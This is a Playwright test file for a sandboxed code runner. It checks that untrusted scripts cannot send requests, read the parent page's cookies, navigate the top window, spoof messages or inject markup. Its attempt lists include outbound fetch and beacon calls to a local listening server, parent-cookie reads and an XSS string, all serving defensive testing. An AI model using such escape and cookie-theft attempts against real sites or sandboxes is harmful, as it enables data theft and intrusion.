"""What code of strangers tries: no request leaves but for the runtimes, and the page around it stays as it was."""

import json
import time

import pytest
from playwright.sync_api import expect
from run_server import RunServer
from runs import runs  # noqa: F401

# Each attempt is a name and an expression; a promise is waited for. What fails, or says `undefined`, has not got out.
REACHING_OUT = {
    "fetch": "fetch(there + 'fetch')",
    "XMLHttpRequest": "new Promise((done, no) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = no; x.open('GET', there + 'xhr'); x.send(); })",
    "WebSocket": "new Promise((done, no) => { const s = new WebSocket(there.replace('http', 'ws') + 'socket'); s.onopen = done; s.onerror = no; })",
    "EventSource": "new Promise((done, no) => { const s = new EventSource(there + 'events'); s.onopen = done; s.onerror = no; })",
    "import": "import(there + 'module.js')",
    "import of data": "import('data:text/javascript,export default 1')",
    "import of a library": "import(here + '/run/lib/sketch/shapes.js?x')",
    "importScripts": "importScripts(there + 'script.js')",
    "eval": "eval('1 + 1')",
    "Function": "new Function('return 1')()",
    "timer of text": "new Promise((done, no) => { try { setTimeout('self.hit = 1', 0); } catch (error) { no(error); } setTimeout(() => self.hit ? done() : no('nothing'), 50); })",
    "WebAssembly": "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    "indexedDB": "new Promise((done, no) => { const o = indexedDB.open('x'); o.onsuccess = done; o.onerror = no; })",
    "caches": "caches.open('x')",
    "localStorage": "localStorage.setItem('x', '1')",
    "sessionStorage": "sessionStorage.setItem('x', '1')",
    "private files": "navigator.storage.getDirectory()",
    "nested Worker": "new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = no; setTimeout(no, 500); })",
    "SharedWorker": "new SharedWorker('data:text/javascript,1')",
    "service worker": "navigator.serviceWorker.register('/run/lib/frame.js')",
    "WebTransport": "new WebTransport(there.replace('http:', 'https:')).ready",
    "font": "new FontFace('x', `url(${there}font.woff2)`).load()",
    "beacon": "(navigator.sendBeacon(there + 'beacon', 'x'), Promise.reject())",
    "picture": "createImageBitmap(new Blob(['x'])).then(() => {})",
}
# Worker and BroadcastChannel are beyond CSP in a Worker; they are taken away. These must not exist there at all.
ABSENT = ["Worker", "SharedWorker", "BroadcastChannel", "importScripts", "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "postMessage", "indexedDB", "caches"]
# html frames have the DOM: what the policy and the sandbox stop there. Nested Workers of blobs are refused by the policy (no worker-src).
IN_A_PAGE = {
    "cookies": "document.cookie = 'x=1', document.cookie.length || Promise.reject()",
    "parent's document": "parent.document.body",
    "parent's cookies": "parent.document.cookie",
    "top's location read": "top.location.href",
    "host goes elsewhere": "top.location.href = there + 'top'",
    "parent goes elsewhere": "parent.location.replace(there + 'parent')",
    "popup": "(() => { const w = open(there + 'popup'); if (!w) throw 0; })()",
    "image": "new Promise((done, no) => { const i = new Image(); i.onload = done; i.onerror = no; i.src = there + 'image.png'; })",
    "script": "new Promise((done, no) => { const s = document.createElement('script'); s.onload = done; s.onerror = no; s.src = there + 'script.js'; document.head.append(s); })",
    "style sheet": "new Promise((done, no) => { const l = Object.assign(document.createElement('link'), {rel: 'stylesheet', href: there + 'style.css'}); l.onload = done; l.onerror = no; document.head.append(l); })",
    "frame": "new Promise((done, no) => { const f = document.createElement('iframe'); f.src = there + 'frame'; document.body.append(f); setTimeout(() => no('unknown'), 300); })",
    "object": "new Promise((done, no) => { const f = document.createElement('object'); f.data = there + 'object'; f.onload = done; document.body.append(f); setTimeout(() => no('unknown'), 300); })",
    "video": "new Promise((done, no) => { const v = document.createElement('video'); v.onloadeddata = done; v.onerror = no; v.src = there + 'video.mp4'; })",
    "modal": "alert('x') ?? Promise.reject()",
    "Worker of a blob": "new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = no; setTimeout(no, 500); })",
    "base": "(() => { const b = document.createElement('base'); b.href = there; document.head.append(b); if (document.baseURI.startsWith(there)) throw 'moved'; return Promise.reject(); })()",
}
# These do not answer. They are made, and the listening server must hear nothing.
SILENT = """
for (const [rel, more] of [['dns-prefetch', {}], ['preconnect', {}], ['prefetch', {}], ['preload', {as: 'script'}], ['modulepreload', {}], ['manifest', {}], ['icon', {}]])
  document.head.append(Object.assign(document.createElement('link'), {rel, href: there + rel, ...more}));
const form = Object.assign(document.createElement('form'), {action: there + 'form', method: 'post', target: '_top'});
document.body.append(form); form.submit();
document.body.append(Object.assign(document.createElement('a'), {href: URL.createObjectURL(new Blob(['x'])), download: 'x'})); document.body.lastChild.click();
document.body.append(Object.assign(document.createElement('a'), {href: there + 'blank', target: '_blank', ping: there + 'ping'})); document.body.lastChild.click();
const sheet = document.createElement('style');
sheet.textContent = `@import url(${there}import.css); @font-face { font-family: far; src: url(${there}far.woff2) } body { background: url(${there}background.png); font-family: far }
  .x { cursor: url(${there}cursor.png), auto; list-style: url(${there}list.png); border-image: url(${there}border.png) }`;
document.head.append(sheet); document.body.className = 'x';
document.body.append(Object.assign(document.createElement('div'), {innerHTML: `<svg><image href="${there}svg.png"/><use href="${there}use.svg#x"/></svg><img srcset="${there}set.png 2x"><embed src="${there}embed"><input type=image src="${there}input.png">`}));
"""


def attempts(which: dict[str, str], here: str, there: str) -> str:
    lines = [f"const here = {json.dumps(here)}, there = {json.dumps(there)};", "(async () => { const got = [];"]
    for name, expression in which.items():
        lines.append(f"try {{ const value = await (async () => {expression})(); got.push({json.dumps(name)} + ': ' + String(value)); }} catch (error) {{}}")
    return "\n".join([*lines, "console.log('got out: ' + JSON.stringify(got)); console.log('end'); })();"])


@pytest.fixture
def stranger():
    """A server elsewhere that hears whatever gets out."""
    server = RunServer()
    yield server
    server.close()


HOST = "() => ({address: location.href, title: document.title, cookie: document.cookie, keys: Object.keys(localStorage).length, articles: document.querySelectorAll('article').length})"


def unchanged_by(page, act):
    before = page.evaluate(HOST)
    act()
    assert page.evaluate(HOST) == before
    assert len(page.context.pages) == 1


@pytest.mark.parametrize("runtime", ["sketch", "three", "audio"])
def test_a_worker_reaches_nothing(runs, stranger, runtime):  # noqa: F811
    page = runs.start(runtime, attempts(REACHING_OUT, runs.server.url, stranger.url + "/"))
    downloads, popups = [], []
    page.on("download", lambda one: downloads.append(one))
    page.on("popup", lambda one: popups.append(one))

    def wait():
        expect(page.get_by_role("log").locator("li").filter(has_text="end")).to_be_visible(timeout=20_000)
        time.sleep(0.5)

    unchanged_by(page, wait)
    assert page.get_by_role("log").locator("li").first.text_content() == "got out: []"
    assert stranger.requests == [] and downloads == [] and popups == []
    page.close()
    assert not [path for _, path, *_ in runs.server.requests if not path.startswith(("/run/", "/assets/", "/page/", "/favicon"))]


@pytest.mark.parametrize("runtime", ["sketch", "three", "audio"])
def test_what_could_start_more_does_not_exist(runs, runtime):  # noqa: F811
    names = json.dumps(ABSENT)
    said = runs.lines(f"console.log(JSON.stringify({names}.filter((name) => name in self || typeof self[name] !== 'undefined'))); console.log(typeof URL.createObjectURL); console.log('end')", runtime=runtime)
    assert said == ["[]", "undefined"]


def test_a_page_of_its_own_reaches_nothing(runs, stranger):  # noqa: F811
    code = f"<!doctype html><title>Mine</title><body><script>{attempts({**REACHING_OUT, **IN_A_PAGE}, runs.server.url, stranger.url + '/')}\n{SILENT}</script>"
    page = runs.start("html", code)
    downloads, popups = [], []
    page.on("download", lambda one: downloads.append(one))
    page.on("popup", lambda one: popups.append(one))

    def wait():
        expect(page.get_by_role("log").locator("li").filter(has_text="end")).to_be_visible(timeout=20_000)
        time.sleep(0.5)

    unchanged_by(page, wait)
    assert page.get_by_role("log").locator("li").filter(has_text="got out").first.text_content() == "got out: []"
    assert stranger.requests == [] and downloads == [] and popups == []
    page.close()
    assert not [path for _, path, *_ in runs.server.requests if not path.startswith(("/run/", "/assets/", "/page/", "/favicon"))]


@pytest.mark.parametrize("to", ["/page/0", "https://stranger", "reload", "about:blank", "data:text/html,x", "/run/lib/frame.js", "blob", "refresh", "link"])
def test_a_frame_that_leaves_its_place_is_removed(runs, stranger, to):  # noqa: F811
    move = {
        "reload": "location.reload()",
        "blob": "location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], {type: 'text/html'}))",
        "link": f"Object.assign(document.createElement('a'), {{href: '{stranger.url}', download: 'x'}}).click()",
        "refresh": f"document.body.innerHTML = '<meta http-equiv=refresh content=\"0;url={stranger.url}\">'",
        "https://stranger": f"location.href = {json.dumps(stranger.url)}",
    }.get(to, f"location.href = {json.dumps(to if ':' in to else runs.server.url + to)}")
    page = runs.start("html", f"<!doctype html><p>Here<script>setTimeout(() => {{ {move} }}, 300)</script>")
    expect(page.get_by_role("status", name="Runner")).to_have_text("Stopped: It left its place")
    assert page.locator("iframe").count() == 0
    assert stranger.requests == []
    # A frame that moves itself is a guest: only its first load had the cookie.
    assert [cookie for _, path, cookie, kind in runs.server.requests if kind == "iframe" and path.startswith("/page/")] == []
    page.close()


def test_only_the_frame_itself_is_heard(runs):  # noqa: F811
    page = runs.start("sketch", "function setup() { print('true') }")
    expect(page.get_by_role("log").locator("li")).to_have_text(["true"])
    # Another frame of the page, and the page itself, pose as the runner.
    page.evaluate("""() => {
      const lie = {type: 'console', lines: [{kind: 'log', text: 'false', line: null}], more: 0};
      postMessage(lie, '*');
      const other = document.createElement('iframe');
      other.setAttribute('sandbox', 'allow-scripts');
      document.body.append(other);
      dispatchEvent(new MessageEvent('message', {data: lie, origin: 'null', source: other.contentWindow}));
      dispatchEvent(new MessageEvent('message', {data: lie, origin: location.origin, source: document.querySelector('.frame iframe').contentWindow}));
      for (const data of [null, 1, 'x', [], {type: 'constructor'}, {type: 'console', lines: 'x', more: 0}, {type: 'console', lines: [{kind: 'x', text: 1}], more: 0},
                          {type: 'size', width: 1e9, height: 1}, {type: 'state', state: 'odd'}, {type: 'rate', frames: -1}])
        dispatchEvent(new MessageEvent('message', {data, origin: 'null', source: document.querySelector('.frame iframe').contentWindow}));
    }""")
    time.sleep(0.3)
    expect(page.get_by_role("log").locator("li")).to_have_text(["true"])
    expect(page.get_by_role("status", name="Runner")).to_have_text("Running")
    page.close()


def test_a_flood_of_messages_ends_the_run(runs):  # noqa: F811
    page = runs.start("html", "<script>setTimeout(() => { for (let i = 0; i < 5000; i += 1) parent.postMessage({type: 'rate', frames: 1}, '*'); }, 200)</script>")
    expect(page.get_by_role("status", name="Runner")).to_have_text("Stopped: too many messages")
    page.close()


def test_markup_in_titles_and_lines_is_text(runs):  # noqa: F811
    nasty = "</script></pre><img src=x onerror=alert(1)>\u202e"
    said = runs.lines(f"function setup() {{ print({json.dumps(nasty)}); print({json.dumps(nasty)} === `{nasty}`); print('end') }}")
    assert said == [nasty, "true"]
